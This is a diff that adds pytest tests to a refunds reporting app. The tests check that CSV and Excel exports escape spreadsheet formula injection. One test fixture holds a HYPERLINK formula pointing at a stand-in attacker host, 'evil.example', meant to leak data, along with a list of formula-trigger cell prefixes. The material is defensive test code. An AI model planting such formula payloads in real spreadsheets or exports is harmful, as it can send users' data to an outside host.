@@ -12,20 +12,21 @@ from decimal import Decimal
 from zoneinfo import ZoneInfo
 
 import httpx
+import openpyxl
 import pytest
 
 from aftersales.core import clock
 from aftersales.core.models import Role, User
 from aftersales.core.reasons import QUALITY_REASONS
 from aftersales.orders.models import Order, OrderItem
-from aftersales.refunds import service
+from aftersales.refunds import export, service
 from aftersales.refunds.models import LedgerEntry, Refund, RefundStatus
 from aftersales.refunds.report import Period, refund_report
 from connectors.base import AfterSaleStatus, RefundDecision, RefundWriteResult
 from tests.conftest import sign_in
 from tests.factories import create_hostile_shop, create_store, create_user
 from tests.orders.test_api import bearer
-from tests.refunds.test_service import NOW, demo_shop
+from tests.refunds.test_service import NOW, demo_shop, open_request
 
 pytestmark = pytest.mark.usefixtures("clean_db")
 ZONE = ZoneInfo("Asia/Shanghai")
@@ -284,3 +285,59 @@ async def test_a_new_store_or_days_without_sales_give_an_empty_report_not_an_err
     page = await client.get(f"/refunds/report?from={day}&to={day}")
     assert f"¥{result.totals.refunded:,.2f}" in page.text and page.text.count("<svg") == 2
     assert (await client.get(f"/refunds/report/series.csv?from={day}&to={day}")).status_code == 200
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak","点我")'
+
+
+async def test_exports_keep_formula_looking_text_as_text_and_numbers_as_numbers(
+    client: httpx.AsyncClient, app
+) -> None:
+    clock.travel(NOW - clock.now())
+    await create_hostile_shop(now=NOW, text=FORMULA)  # titles, SKUs, the store's name
+    agent = await create_user(username="-1+1", role=Role.SUPERVISOR)
+    refund = await open_request()
+    await service.approve(refund.id, actor=agent)
+    await service.start_writeback(refund.id)
+    await service.finish_writeback(
+        refund.id,
+        RefundDecision.APPROVE,
+        RefundWriteResult(status=AfterSaleStatus.REFUNDED, platform_status="SUCCESS"),
+    )
+    await _sign_in_owner(client)
+
+    def rows_of(table: str) -> list[list[str]]:
+        return list(csv.reader(io.StringIO(answers[table].content.decode("utf-8-sig"))))
+
+    answers = {t: await client.get(f"/refunds/report/{t}.csv") for t in ("sku", "store", "agent")}
+    product = [r for r in rows_of("sku")[1:] if FORMULA in r[0]]
+    assert product and all(r[0].startswith("'" + FORMULA) for r in product)
+    assert all(Decimal(r[1]) >= 0 and r[2].isdecimal() for r in product), "amounts stay numbers"
+    assert [r[0] for r in rows_of("store")[1:]] == ["'" + FORMULA]
+    assert "'-1+1" in [r[0] for r in rows_of("agent")[1:]]
+
+    book = openpyxl.load_workbook(io.BytesIO((await client.get("/refunds/report.xlsx")).content))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"], "no cell is a formula"
+    texts = {c.value for c in cells if c.data_type == "s"}
+    assert FORMULA in texts and "-1+1" in texts, "the data is there, as text"
+    by_product = book["By product"]
+    for row in by_product.iter_rows(min_row=2):
+        assert row[0].data_type == "s"
+        assert all(c.data_type == "n" for c in row[1:]), "amounts and counts are numbers"
+
+
+def test_only_text_cells_are_guarded_negative_amounts_stay_numbers() -> None:
+    starts = ["=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]
+    table = (["Group", "Refunded", "Refunds"], [[s, Decimal("-5.00"), -3] for s in starts])
+    rows = list(csv.reader(io.StringIO(export.to_csv(table).decode("utf-8-sig"))))
+    assert [r[0] for r in rows[1:]] == ["'" + s for s in starts]
+    assert {(r[1], r[2]) for r in rows[1:]} == {("-5.00", "-3")}
+    book = openpyxl.load_workbook(io.BytesIO(export.to_xlsx({"reason": table}, {})))
+    sheet = book.active
+    # xlsxwriter stores a carriage return as the OOXML escape _x000D_, which Excel
+    # reads back as \r and openpyxl leaves as it is.
+    shown = [sheet.cell(r, 1).value.replace("_x000D_", "\r") for r in range(2, 8)]
+    assert shown == starts
+    assert {sheet.cell(r, 1).data_type for r in range(2, 8)} == {"s"}
+    assert {(sheet.cell(r, 2).value, sheet.cell(r, 3).value) for r in range(2, 8)} == {(-5, -3)}
